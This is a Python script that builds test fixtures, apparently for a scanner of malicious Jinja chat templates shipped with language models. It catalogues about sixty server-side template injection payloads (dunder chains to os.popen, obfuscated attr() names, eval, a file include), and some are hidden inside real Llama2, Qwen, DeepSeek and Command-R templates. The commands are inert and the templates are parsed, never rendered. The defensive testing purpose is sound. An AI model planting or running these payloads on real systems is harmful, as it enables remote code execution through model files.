#!/usr/bin/env python3
"""Builds the Jinja chat-template fixtures and MANIFEST.tsv.

benign/<family>/chat_template.jinja are copies of the chat templates real model families ship
(committed as they are; this script only lists and checks them). malicious/*.jinja are written
here: server-side template injection payloads, one per technique and spelling, most of them hidden
inside an otherwise ordinary chat template. Payloads are inert (`echo aisec-fixture`,
/etc/hostname) and nothing here renders a template.

With jinja2 installed (requirements.txt) every file is parsed, never rendered, with the settings
Hugging Face transformers uses, to prove each fixture is a valid template:
    python3 -m venv /tmp/venv && /tmp/venv/bin/pip install -r requirements.txt
    /tmp/venv/bin/python gen_fixtures.py
"""

import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))

CMD = "echo aisec-fixture"

# An ordinary ChatML template; `{payload}` marks where the injection goes.
CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
    "'<|im_end|>' + '\\n'}}{% endfor %}{payload}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}"
    "{% endif %}"
)

LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = "
    "'<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + "
    "'<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}"
    "{payload}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}"
    "{% endif %}"
)

POPEN = "popen('" + CMD + "').read()"

# (name, class, description, payload, host template)
MALICIOUS = [
    # Direct dunder chains.
    ("direct_mro_subclasses", "direct-dunder", "''.__class__.__mro__[1].__subclasses__() walk",
     "{{ ''.__class__.__mro__[1].__subclasses__() }}", CHATML),
    ("direct_base_subclasses_popen", "direct-dunder", "().__class__.__base__.__subclasses__() to a Popen-like class",
     "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c('" + CMD
     + "', shell=True, stdout=-1).communicate() }}{% endif %}{% endfor %}", CHATML),
    ("cycler_globals_os_popen", "helper-gadget", "cycler.__init__.__globals__.os.popen",
     "{{ cycler.__init__.__globals__.os." + POPEN + " }}", CHATML),
    ("joiner_globals_os_popen", "helper-gadget", "joiner.__init__.__globals__.os.popen",
     "{{ joiner.__init__.__globals__.os." + POPEN + " }}", LLAMA3),
    ("namespace_globals_os_popen", "helper-gadget", "namespace.__init__.__globals__.os.popen",
     "{{ namespace.__init__.__globals__.os." + POPEN + " }}", CHATML),
    ("lipsum_globals_subscript", "helper-gadget", "lipsum.__globals__['os'].popen",
     "{{ lipsum.__globals__['os']." + POPEN + " }}", CHATML),
    ("self_template_reference", "helper-gadget", "self._TemplateReference__context.cycler.__init__.__globals__.os.popen",
     "{{ self._TemplateReference__context.cycler.__init__.__globals__.os." + POPEN + " }}", CHATML),
    ("range_init_self", "helper-gadget", "range.__init__.__self__ walk", "{{ range.__init__.__self__ }}", CHATML),
    ("builtins_import_os", "direct-dunder", "__globals__.__builtins__.__import__('os')",
     "{{ cycler.__init__.__globals__.__builtins__.__import__('os')." + POPEN + " }}", LLAMA3),
    ("getitem_chain", "direct-dunder", "__getitem__ instead of subscripts",
     "{{ lipsum.__globals__.__getitem__('os')." + POPEN + " }}", CHATML),
    ("message_class_in_loop", "direct-dunder", "message.__class__ walk inside the message loop",
     "{{ message.__class__.__mro__[-1].__subclasses__() }}", LLAMA3),
    ("flask_config_globals", "helper-gadget", "config.__class__.__init__.__globals__['os']",
     "{{ config.__class__.__init__.__globals__['os']." + POPEN + " }}", CHATML),
    ("url_for_globals_builtins", "helper-gadget", "url_for.__globals__['__builtins__']['open']",
     "{{ url_for.__globals__['__builtins__']['open']('/etc/hostname').read() }}", CHATML),
    ("request_application_import", "helper-gadget", "request.application.__globals__.__builtins__.__import__",
     "{{ request.application.__globals__.__builtins__.__import__('os')." + POPEN + " }}", CHATML),
    ("get_flashed_messages_globals", "helper-gadget", "get_flashed_messages.__globals__",
     "{{ get_flashed_messages.__globals__['os']." + POPEN + " }}", CHATML),
    # attr() with computed names.
    ("attr_concat_tilde", "computed-name", "attr() with '~' concatenation",
     "{{ (''|attr('__cla' ~ 'ss__')|attr('__mr' ~ 'o__'))[1]|attr('__subcla' ~ 'sses__') }}", CHATML),
    ("attr_concat_plus", "computed-name", "attr() with '+' concatenation",
     "{{ lipsum|attr('__glo' + 'bals__') }}", CHATML),
    ("attr_adjacent_literals", "computed-name", "attr() with adjacent string literals",
     "{{ lipsum|attr('__glo' 'bals__') }}", CHATML),
    ("attr_hex_escape", "escaped-name", "attr() with \\x5f escapes",
     "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('os')|attr('popen')('" + CMD
     + "')|attr('read')() }}", CHATML),
    ("attr_unicode_escape", "escaped-name", "attr() with \\u005f escapes",
     "{{ lipsum|attr('\\u005f\\u005fglobals\\u005f\\u005f') }}", CHATML),
    ("attr_long_unicode_escape", "escaped-name", "attr() with \\U0000005f escapes",
     "{{ lipsum|attr('\\U0000005f\\U0000005fglobals\\U0000005f\\U0000005f') }}", CHATML),
    ("attr_octal_escape", "escaped-name", "attr() with \\137 octal escapes",
     "{{ lipsum|attr('\\137\\137globals\\137\\137') }}", CHATML),
    ("attr_named_escape", "escaped-name", "attr() with \\N{LOW LINE} escapes",
     "{{ lipsum|attr('\\N{LOW LINE}\\N{LOW LINE}globals\\N{LOW LINE}\\N{LOW LINE}') }}", CHATML),
    ("attr_escaped_letters", "escaped-name", "attr() with every letter escaped",
     "{{ lipsum|attr('\\x5f\\x5f\\x67\\x6c\\x6f\\x62\\x61\\x6c\\x73\\x5f\\x5f') }}", CHATML),
    ("attr_join_list", "computed-name", "attr() with a list joined by |join",
     "{{ lipsum|attr(['__', 'glo', 'bals', '__']|join) }}", CHATML),
    ("attr_join_separator", "computed-name", "attr() with |join('_') on fragments",
     "{{ lipsum|attr(['', '', 'globals', '', '']|join('_')) }}", CHATML),
    ("attr_format_filter", "computed-name", "attr() with '%s'|format",
     "{{ lipsum|attr('%s%sglobals%s%s'|format('_', '_', '_', '_')) }}", CHATML),
    ("attr_printf_chars", "computed-name", "attr() with '%c' % 95",
     "{{ lipsum|attr('%c%cglobals%c%c' % (95, 95, 95, 95)) }}", CHATML),
    ("attr_reverse_filter", "computed-name", "attr() with |reverse",
     "{{ lipsum|attr('__slabolg__'|reverse) }}", CHATML),
    ("attr_reverse_slice", "computed-name", "attr() with [::-1]",
     "{{ lipsum|attr('__slabolg__'[::-1]) }}", CHATML),
    ("attr_replace", "computed-name", "attr() with |replace",
     "{{ lipsum|attr('XXglobalsXX'|replace('X', '_')) }}", CHATML),
    ("attr_multiply", "computed-name", "attr() with '_' * 2",
     "{{ lipsum|attr('_' * 2 ~ 'globals' ~ '_' * 2) }}", CHATML),
    ("attr_lower", "computed-name", "attr() with |lower",
     "{{ lipsum|attr('__GLOBALS__'|lower) }}", CHATML),
    ("attr_dict_keys", "computed-name", "attr() with dict(...) keys joined",
     "{{ lipsum|attr(dict(__glo=1, bals__=2)|join) }}", CHATML),
    ("attr_str_format_method", "computed-name", "attr() with '{}'.format",
     "{{ lipsum|attr('{}{}globals{}{}'.format('_', '_', '_', '_')) }}", CHATML),
    ("attr_str_join_method", "computed-name", "attr() with ''.join",
     "{{ lipsum|attr(''.join(['__', 'globals', '__'])) }}", CHATML),
    ("subscript_concat", "computed-name", "subscript with a concatenated key",
     "{{ lipsum[('__glo' + 'bals__')]['os']." + POPEN + " }}", CHATML),
    ("format_field_walk", "computed-name", "str.format field that walks attributes",
     "{{ '{0.__class__.__mro__}'.format(messages) }}", CHATML),
    ("map_attribute", "computed-name", "map(attribute='__globals__')",
     "{{ [lipsum]|map(attribute='__globals__')|first }}", CHATML),
    ("map_attr_filter", "computed-name", "map('attr', '__globals__')",
     "{{ [lipsum]|map('attr', '__globals__')|list }}", CHATML),
    ("selectattr_dunder", "computed-name", "selectattr('__globals__')",
     "{{ [lipsum]|selectattr('__globals__')|list }}", CHATML),
    # Data flow.
    ("set_alias_chain", "data-flow", "name assembled over several set variables",
     "{% set a = '__glo' %}{% set b = 'bals__' %}{% set n = a ~ b %}{% set g = lipsum|attr(n) %}{{ g['os']." + POPEN
     + " }}", CHATML),
    ("set_block_name", "data-flow", "name held in a {% set %} block",
     "{% set n -%}\n__globals__\n{%- endset %}{{ (lipsum|attr(n))['os']." + POPEN + " }}", CHATML),
    ("set_tuple_unpack", "data-flow", "name parts from tuple unpacking",
     "{% set a, b = '__glo', 'bals__' %}{{ lipsum|attr(a ~ b) }}", CHATML),
    ("namespace_smuggling", "data-flow", "name carried through namespace attributes",
     "{% set ns = namespace(p='__glo') %}{% set ns.q = ns.p ~ 'bals__' %}{{ lipsum|attr(ns.q) }}", CHATML),
    ("namespace_loop_build", "data-flow", "name accumulated in a loop over fragments",
     "{% set ns = namespace(s='') %}{% for c in ['__glo', 'bals__'] %}{% set ns.s = ns.s ~ c %}{% endfor %}"
     "{{ lipsum|attr(ns.s) }}", CHATML),
    ("macro_argument", "data-flow", "attr name passed as a macro argument",
     "{% macro g(o, n) %}{{ o|attr(n) }}{% endmacro %}{{ g(lipsum, '__globals__') }}", CHATML),
    ("macro_output", "data-flow", "name produced by a macro's output",
     "{% macro u() %}__{% endmacro %}{{ lipsum|attr(u() ~ 'globals' ~ u()) }}", CHATML),
    ("with_binding", "data-flow", "name bound by a with block",
     "{% with n = '__glo' ~ 'bals__' %}{{ lipsum|attr(n) }}{% endwith %}", CHATML),
    ("for_loop_variable", "data-flow", "name from a for-loop variable",
     "{% for n in ['__globals__'] %}{{ lipsum|attr(n) }}{% endfor %}", CHATML),
    ("default_filter", "data-flow", "name from |default of an undefined variable",
     "{{ lipsum|attr(undefined_name|default('__globals__')) }}", CHATML),
    ("or_fallback", "data-flow", "name from an `or` fallback",
     "{{ lipsum|attr(none_here or '__globals__') }}", CHATML),
    # Incomplete or indirect constructs (high).
    ("request_args_name", "dynamic-name", "attr name taken from request arguments",
     "{{ ''|attr(request.args.a)|attr(request.args.b) }}", CHATML),
    ("lipsum_string_chars", "dynamic-name", "underscores picked out of lipsum|string",
     "{% set u = (lipsum|string)[18] %}{{ lipsum|attr(u ~ u ~ 'globals' ~ u ~ u) }}", CHATML),
    ("os_free_name", "python-builtin", "os.popen on a free name",
     "{{ os." + POPEN + " }}", CHATML),
    ("eval_free_name", "python-builtin", "eval() on a free name",
     "{{ eval(\"__import__('os').system('" + CMD + "')\") }}", CHATML),
    ("include_path", "template-load", "include of a file-system path",
     "{% include '/etc/hostname' %}", CHATML),
    ("private_context", "private-attribute", "self._TemplateReference__context",
     "{{ self._TemplateReference__context.keys() }}", CHATML),
    ("hidden_built_name", "obfuscated-name", "internal name built but not used visibly",
     "{% set x = '__buil' ~ 'tins__' %}", CHATML),
]

# Payloads hidden inside real templates.
HIDDEN = [
    ("llama2_hidden_payload", "llama2", "{% if messages[0]['role'] == 'system' %}",
     "{% if messages[0]['role'] == 'system' %}{% set _ = cycler.__init__.__globals__.os." + POPEN + " %}"),
    ("qwen25_hidden_payload", "qwen2.5-tools", "{%- if add_generation_prompt %}",
     "{%- set x = lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f') %}{{- x['os']." + POPEN + " }}\n{%- if add_generation_prompt %}"),
    ("deepseek_r1_hidden_payload", "deepseek-r1-distill", "{{bos_token}}",
     "{{bos_token}}{{ self._TemplateReference__context.joiner.__init__.__globals__.os." + POPEN + " }}"),
    ("command_r_macro_payload", "command-r7b-tools", "{%- macro format_tool_message(messages, tool_msg) -%}",
     "{%- macro p(o, n) %}{{ (o|attr(n))['os']." + POPEN + " }}{% endmacro %}{{ p(lipsum, '__glo' ~ 'bals__') }}"
     "{%- macro format_tool_message(messages, tool_msg) -%}"),
]


def write(rel, text):
    path = os.path.join(HERE, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="") as f:
        f.write(text)


def check(rows):
    try:
        import jinja2
        import jinja2.sandbox
    except ImportError:
        print("jinja2 not installed: fixtures written, not parsed", file=sys.stderr)
        return
    env = jinja2.sandbox.ImmutableSandboxedEnvironment(
        trim_blocks=True, lstrip_blocks=True, extensions=["jinja2.ext.loopcontrols"]
    )
    bad = 0
    for rel, _, _, _ in rows:
        with open(os.path.join(HERE, rel), encoding="utf-8") as f:
            src = f.read()
        try:
            env.parse(src)
        except jinja2.TemplateSyntaxError as e:
            bad += 1
            print(f"{rel}: {e}", file=sys.stderr)
    if bad:
        sys.exit(f"{bad} fixture(s) do not parse")
    print(f"jinja2 {jinja2.__version__} parsed all {len(rows)} fixtures", file=sys.stderr)


def main():
    rows = []
    for fam in sorted(os.listdir(os.path.join(HERE, "benign"))):
        rel = f"benign/{fam}/chat_template.jinja"
        if os.path.isfile(os.path.join(HERE, rel)):
            rows.append((rel, "benign", "real-chat-template", f"{fam} chat template as published"))
    for name, cls, desc, payload, host in MALICIOUS:
        rel = f"malicious/{name}.jinja"
        write(rel, host.replace("{payload}", payload))
        rows.append((rel, "malicious", cls, desc))
    for name, fam, anchor, replacement in HIDDEN:
        with open(os.path.join(HERE, "benign", fam, "chat_template.jinja"), encoding="utf-8") as f:
            src = f.read()
        assert anchor in src, (fam, anchor)
        rel = f"malicious/{name}/chat_template.jinja"
        write(rel, src.replace(anchor, replacement, 1))
        rows.append((rel, "malicious", "hidden-in-real-template", f"payload inside the {fam} template"))
    with open(os.path.join(HERE, "MANIFEST.tsv"), "w", encoding="utf-8", newline="") as f:
        f.write("path\texpected\tclass\tdescription\n")
        for r in rows:
            f.write("\t".join(r) + "\n")
    check(rows)


if __name__ == "__main__":
    main()
